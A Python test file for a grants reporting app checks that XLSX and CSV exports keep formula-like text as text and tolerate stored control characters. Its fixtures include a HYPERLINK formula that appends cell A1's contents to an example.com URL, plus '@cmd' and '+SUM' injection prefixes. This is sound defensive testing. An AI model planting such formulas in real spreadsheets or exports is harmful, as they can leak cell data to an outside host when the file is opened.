"""Exports never run what was typed and never fail on what is stored: every text cell of every
XLSX is text, never a formula; a CSV text field that a spreadsheet would take for a formula is
neutralised while numbers stay numbers; and a control character stored before input refused it
is left out of a workbook instead of making the report (and the period's submission) fail."""

import csv
import io
import re
import zipfile
from datetime import date

from openpyxl import load_workbook

from grants.core.vocabulary import Role
from grants.tables.indicators import Indicator
from grants.tables.participants import Participant
from grants.tables.projects import Project
from reports.portfolio_report import build_portfolio_report
from reports.project_report import build_project_report
from reports.render_csv import render_csv
from reports.render_portfolio import render_portfolio_xlsx
from reports.render_xlsx import render_xlsx
from reports.versions import report_file, submit_and_freeze
from tests.builders import expenditure, participant
from tests.helpers import principal

FORMULA = '=HYPERLINK("https://example.com/?q="&A1,"Atvērt")'
REPORT_DATE = date(2026, 7, 10)


def formulas(xlsx: bytes) -> list[str]:
    """Every formula element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            found
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for found in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def text_cells(xlsx: bytes) -> dict[str, object]:
    """Text cell values and their cells, as a spreadsheet reads them."""
    book = load_workbook(io.BytesIO(xlsx))
    return {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


async def titled(project_id: int, title: str) -> None:
    """Text stored as it is, as it was before input refused what input refuses now."""
    await Project.update({Project.title_lv: title}).where(Project.id == project_id)


async def test_a_formula_typed_as_a_title_stays_text_in_the_portfolio_xlsx(reported):
    await titled(reported["project"], FORMULA)
    await Indicator.update({Indicator.name_lv: "+SUM(1;2)"}).where(
        Indicator.project == reported["project"]
    )
    admin = await principal(Role.ADMIN)
    portfolio = render_portfolio_xlsx(await build_portfolio_report(admin, report_date=REPORT_DATE))
    progress = render_xlsx(
        await build_project_report(admin, reported["period"], report_date=REPORT_DATE)
    )
    for data, typed in ((portfolio, FORMULA), (progress, FORMULA), (progress, "+SUM(1;2)")):
        assert formulas(data) == []
        cell = text_cells(data)[typed]
        assert cell.data_type == "s" and cell.quotePrefix


async def test_csv_text_that_looks_like_a_formula_is_neutralised_and_numbers_stay(reported):
    project = reported["project"]
    await Indicator.update({Indicator.name_lv: "@cmd", Indicator.unit_lv: "-personas"}).where(
        Indicator.project == project
    )
    # staff beyond its 10 000,00 plan: a negative "remaining"
    await expenditure(
        project,
        date="10.06.2026",
        amount="20 000,00",
        eligible_amount="20 000,00",
        category="staff",
        invoice_number="X-9",
    )
    admin = await principal(Role.ADMIN)
    built = await build_project_report(admin, reported["period"], report_date=REPORT_DATE)
    rows = list(csv.reader(io.StringIO(render_csv(built).decode("utf-8-sig")), delimiter=";"))
    indicator = [row for row in rows if row[0] == "indicators"]
    assert {row[2] for row in indicator} == {"'@cmd"}
    assert {row[5] for row in indicator} - {"%"} == {"'-personas"}
    values = [row[4] for row in rows[1:] if row[4]]
    assert any(value.startswith("-") for value in values)  # a negative amount, as a number
    assert all(re.fullmatch(r"-?[0-9]+(,[0-9]+)?", value) for value in values)


async def test_stored_control_characters_never_break_a_report_or_a_submission(reported):
    project, period = reported["project"], reported["period"]
    await titled(project, "Ģimenes\x07 un bērni\x1b")
    await Indicator.update({Indicator.name_lv: "Dalībnieki\x0b kopā"}).where(
        Indicator.project == project
    )
    await participant(project, "TUK-001")
    await Participant.update({Participant.target_group: "bērni\x01"}).where(
        Participant.project == project
    )
    admin = await principal(Role.ADMIN)
    for fmt in ("xlsx", "pdf", "html", "csv"):
        data, *_ = await report_file(admin, period, fmt)
        assert data
    portfolio = render_portfolio_xlsx(await build_portfolio_report(admin, report_date=REPORT_DATE))
    assert "Ģimenes un bērni" in text_cells(portfolio)
    await submit_and_freeze(await principal(Role.COORDINATOR), period)
    stored, *_ = await report_file(admin, period, "xlsx")
    assert "Dalībnieki kopā" in text_cells(stored)
